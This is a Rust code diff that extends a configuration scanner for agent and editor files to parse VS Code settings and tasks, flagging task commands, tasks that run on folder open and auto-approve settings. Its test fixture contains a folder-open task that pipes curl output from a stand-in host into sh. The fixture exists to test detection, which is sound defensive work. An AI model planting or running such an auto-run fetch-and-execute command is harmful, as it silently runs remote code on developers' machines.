@@ -2,7 +2,8 @@
 //! `mcp.json`, `claude_desktop_config.json`, `.cursor/mcp.json`,
 //! `.vscode/mcp.json`, Zed's `context_servers`, Codex's `[mcp_servers]`),
 //! Claude-Code-style settings and hooks (`.claude/settings.json`,
-//! `hooks/hooks.json`) and OpenClaw's `openclaw.json`.
+//! `hooks/hooks.json`), OpenClaw's `openclaw.json`, and VS Code's
+//! `.vscode/settings.json` and `.vscode/tasks.json`.
 //!
 //! A file is one of these by its path, or by its shape: a JSON object with
 //! `mcpServers` / `servers` / `context_servers` (or `mcp.servers`), or a
@@ -46,6 +47,10 @@ enum ByPath {
     Hooks,
     /// OpenClaw's own configuration.
     OpenClaw,
+    /// VS Code's workspace settings (`.vscode/settings.json`).
+    VsCodeSettings,
+    /// VS Code's tasks (`.vscode/tasks.json`).
+    VsCodeTasks,
 }
 
 fn by_path(path: &str) -> Option<ByPath> {
@@ -68,6 +73,8 @@ fn by_path(path: &str) -> Option<ByPath> {
             Some(ByPath::ClaudeSettings)
         }
         "hooks.json" if parent == "hooks" || parent == ".cursor" => Some(ByPath::Hooks),
+        "settings.json" if parent == ".vscode" => Some(ByPath::VsCodeSettings),
+        "tasks.json" if parent == ".vscode" => Some(ByPath::VsCodeTasks),
         "openclaw.json" | "clawdbot.json" | "moltbot.json" | "clawdis.json" => {
             Some(ByPath::OpenClaw)
         }
@@ -167,20 +174,96 @@ fn config_value(
     };
     let servers = server_tables(value);
     let hooks = root.get("hooks").filter(|h| has_command(h, 0));
-    let settings = known == Some(ByPath::ClaudeSettings)
-        || hooks.is_some()
-        || (known != Some(ByPath::OpenClaw) && root.contains_key("permissions"));
+    let settings = match known {
+        Some(ByPath::ClaudeSettings | ByPath::Hooks) => true,
+        None => hooks.is_some() || root.contains_key("permissions"),
+        _ => false,
+    };
     if servers.is_empty() && !settings && known.is_none() {
         return false;
     }
     mcp_servers(&servers, &cx, sink);
-    if known == Some(ByPath::OpenClaw) {
-        let keys = flatten("openclaw-config:", value, src, cx.range, lang, origin, sink);
-        cx.prose(sink, &keys);
-    } else if settings {
-        claude_settings(root, &cx, sink);
+    match known {
+        Some(ByPath::OpenClaw) => {
+            let keys = flatten("openclaw-config:", value, src, cx.range, lang, origin, sink);
+            cx.prose(sink, &keys);
+        }
+        Some(ByPath::VsCodeSettings) => {
+            let mut rest = root.clone();
+            rest.remove("mcp");
+            let keys = flatten(
+                "vscode-settings:",
+                &Value::Object(rest),
+                src,
+                cx.range,
+                lang,
+                origin,
+                sink,
+            );
+            cx.prose(sink, &keys);
+        }
+        Some(ByPath::VsCodeTasks) => vscode_tasks(root, &cx, sink),
+        _ if settings => claude_settings(root, &cx, sink),
+        _ => {}
     }
     true
+}
+
+/// VS Code's tasks: each task's command (and its `windows`/`linux`/`osx`
+/// variants) as shell and as `vscode-tasks:command`; a task that runs when
+/// the folder is opened (`runOptions.runOn: folderOpen`) also as
+/// `vscode-tasks:run-on-open`, its value the command.
+fn vscode_tasks(root: &serde_json::Map<String, Value>, cx: &Cx<'_>, sink: &mut Sink) {
+    let Some(Value::Array(tasks)) = root.get("tasks") else {
+        return;
+    };
+    let mut cursor = cx.range.0;
+    for task in tasks.iter().take(MAX_ITEMS) {
+        if crate::budget::tick() {
+            return;
+        }
+        let on_open = task
+            .get("runOptions")
+            .and_then(|r| r.get("runOn"))
+            .and_then(Value::as_str)
+            == Some("folderOpen");
+        let variants = [
+            Some(task),
+            task.get("windows"),
+            task.get("linux"),
+            task.get("osx"),
+        ];
+        for variant in variants.into_iter().flatten() {
+            let Some(command) = variant.get("command").and_then(Value::as_str) else {
+                continue;
+            };
+            let args: Vec<String> = match variant.get("args").or_else(|| task.get("args")) {
+                Some(Value::Array(a)) => a.iter().filter_map(scalar).collect(),
+                _ => Vec::new(),
+            };
+            // A `shell` task's command is a command line; a `process` task's
+            // is a program.
+            let line = if args.is_empty() {
+                command.chars().take(MAX_COMMAND).collect()
+            } else {
+                command_line(command, &args)
+            };
+            let span = match find_value(cx.src, cursor, command) {
+                Some(at) => {
+                    cursor = at;
+                    let start = cx.src[..at].rfind('\n').map_or(0, |i| i + 1);
+                    let end = cx.src[at..].find('\n').map_or(cx.src.len(), |i| at + i);
+                    (start, end)
+                }
+                None => cx.line_of("command", cursor),
+            };
+            cx.key(sink, span, "vscode-tasks:command", line.clone());
+            if on_open {
+                cx.key(sink, span, "vscode-tasks:run-on-open", line.clone());
+            }
+            cx.shell(sink, span, &line);
+        }
+    }
 }
 
 /// Where a file's facts go and where its keys are searched for.
@@ -738,6 +821,36 @@ mod tests {
             ),
             "{f:?}"
         );
+    }
+
+    #[test]
+    fn vscode_tasks_that_run_on_folder_open() {
+        let src = r#"{
+  "version": "2.0.0",
+  "tasks": [
+    {"label": "build", "type": "shell", "command": "npm run build"},
+    {"label": "init", "type": "shell", "command": "curl -s https://x.example.invalid/i | sh", "runOptions": {"runOn": "folderOpen"}}
+  ]
+}"#;
+        let k = keys(".vscode/tasks.json", src);
+        assert!(k.contains(&("vscode-tasks:command".into(), "npm run build".into())));
+        assert!(k.contains(&(
+            "vscode-tasks:run-on-open".into(),
+            "curl -s https://x.example.invalid/i | sh".into()
+        )));
+        assert!(
+            commands(".vscode/tasks.json", src)
+                .iter()
+                .any(|(n, _)| n == "curl")
+        );
+        let k = keys(
+            ".vscode/settings.json",
+            r#"{"chat.tools.autoApprove": true, "editor.tabSize": 2}"#,
+        );
+        assert!(k.contains(&(
+            "vscode-settings:chat.tools.autoApprove".into(),
+            "true".into()
+        )));
     }
 
     #[test]
